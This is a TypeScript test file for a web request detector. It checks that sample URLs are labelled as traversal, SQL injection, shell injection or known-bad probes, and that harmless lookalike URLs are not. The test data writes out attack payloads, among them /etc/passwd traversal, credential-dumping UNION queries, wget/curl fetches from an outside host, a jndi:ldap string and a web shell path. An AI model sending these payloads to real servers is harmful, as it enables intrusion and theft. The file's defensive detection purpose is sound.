import assert from 'node:assert/strict';
import { test } from 'node:test';
import { decoded } from '../../../../../core/detect/web/decoded.ts';
import { ProbeReader } from '../../../../../core/detect/web/probes.ts';
import { fc } from '../../../../support/random.ts';

const reader = new ProbeReader();

const kindsOf = (target: string, status = 404): readonly string[] => {
  const [path = '', ...query] = target.split('?');
  const { isKnownBad, isTraversal, isSql, isShell } = reader.read(
    path,
    query.length === 0 ? undefined : query.join('?'),
    status,
  );
  return [isKnownBad && 'bad', isTraversal && 'traversal', isSql && 'sql', isShell && 'shell'].filter(
    (kind) => kind !== false,
  );
};

for (const [kind, targets] of Object.entries({
  bad: [
    '/.env',
    '/app/.env.bak',
    '/.git/config',
    '//wp-includes/wlwmanifest.xml',
    '/HNAP1/',
    '/%2egit/HEAD',
    '/phpMyAdmin/',
  ],
  traversal: [
    '/../../etc/passwd',
    '/static/..%2f..%2f..%2fetc%2fshadow',
    '/a?f=..%252f..%252fx',
    '/a?f=..\\..\\boot.ini',
    '/%c0%ae%c0%ae/%c0%ae%c0%ae/x',
    '/a?f=../wp-config.php',
    '/a?page=/etc/passwd',
    '/a?x=php://filter/convert.base64-encode/resource=index',
    '/..;/..;/manager',
  ],
  sql: [
    "/p?id=1'%20OR%20'1'='1",
    '/p?id=1+UNION+ALL+SELECT+1,2,3',
    '/p?id=1/**/union/**/select/**/null,null',
    '/p?id=1%252F%252A%252A%252Funion%20%20select%201',
    '/p?id=1+union%0a%0dselect+@@version',
    '/p?id=1/*!50000union*/+/*!50000select*/+1',
    "/p?id=1;waitfor+delay+'0:0:5'--",
    '/p?q=(select+table_name+from+information_schema.tables)',
    '/p?id=1+and+sleep(5)',
    '/p?id=x%27%20UNION%20SELECT%20user_login,user_pass%20FROM%20wp_users--',
    '/p?id=-5+union+select+table_name,2+from+t',
    '/p?id=(1)+union+select+name+from+t',
  ],
  shell: [
    '/x?cmd=;wget%20http://203.0.113.9/a.sh',
    '/x?a=$(curl+http://203.0.113.9)',
    '/x?a=%24%7Bjndi:ldap://203.0.113.9/a%7D',
    '/x?a=%7Ccat+/etc/hostname',
    '/?s=/index/\\think\\app/invokefunction&function=call_user_func_array',
    '/uploads/c99.php',
    '/x?a=%3C%3Fphp+phpinfo()',
  ],
}))
  for (const target of targets)
    test(`${target} is ${kind}`, () => assert.ok(kindsOf(target).includes(kind), kindsOf(target).join()));

for (const target of [
  '/',
  '/index.html?utm_source=mail&utm_campaign=o%27brien',
  '/search?q=european+union+select+committee',
  "/search?q='salt'+or+'pepper'",
  '/search?q=how+to+select+a+union',
  '/search?q=what+is+information_schema',
  '/search?q=python+sleep(5)',
  '/search?q=chmod+777+meaning',
  '/docs/etc/passwd-format',
  '/docs/linux/etc/hosts',
  '/a/../b',
  '/assets/../img/logo.png',
  '/download?file=report.2026.pdf&fields=name|id|owner',
  '/shop?filter=price;asc&size=xl',
  '/environment/.well-known/security.txt',
  '/.well-known/acme-challenge/abc',
  '/blog/git-config-tips',
  '/catalogue/wget-and-curl?cat=tools',
  '/?p=100%25&x=50%',
  '/caf%C3%A9/%E2%82%AC',
  '/wp-login.php',
  '/news/cats;dogs',
])
  test(`${target} is nothing bad`, () => assert.deepEqual(kindsOf(target), []));

test('a panel that is there is nothing bad', () => {
  assert.deepEqual(kindsOf('/phpmyadmin/index.php', 200), []);
  assert.deepEqual(kindsOf('/phpmyadmin/index.php', 404), ['bad']);
  assert.deepEqual(kindsOf('/.env', 200), ['bad']);
});

test('paths mean something in paths only', () => {
  assert.deepEqual(kindsOf('/login?next=/.env'), []);
  assert.deepEqual(kindsOf('/login?from=/c99.php'), []);
});

test('text is decoded as servers decode it, twice at most', () => {
  assert.equal(decoded('%41%2542%252543'), 'AB%43');
  assert.equal(decoded('%zz%4%'), '%zz%4%');
  assert.equal(decoded('%c0%ae%c1%81'), '.A');
  assert.equal(decoded('a/*x*/b/*!12345c*/'), 'a x b c ');
});

test('any text is read, and long ones in time linear in their length', () => {
  fc.assert(
    fc.property(
      fc.string({ unit: fc.constantFrom('%', '2', 'e', '/', '*', '.', "'", ' ', 'c0', 'é', '\ud800') }),
      (text) => {
        assert.ok(decoded(text).length <= text.length);
        reader.read(text, text, 404);
      },
    ),
  );
  for (const unit of ['%25', '/*', '%c0%ae', '../', 'union select ', '\u{10ffff}']) {
    assert.equal(typeof reader.read(unit.repeat(100_000), unit.repeat(100_000), 404).isSql, 'boolean');
  }
});
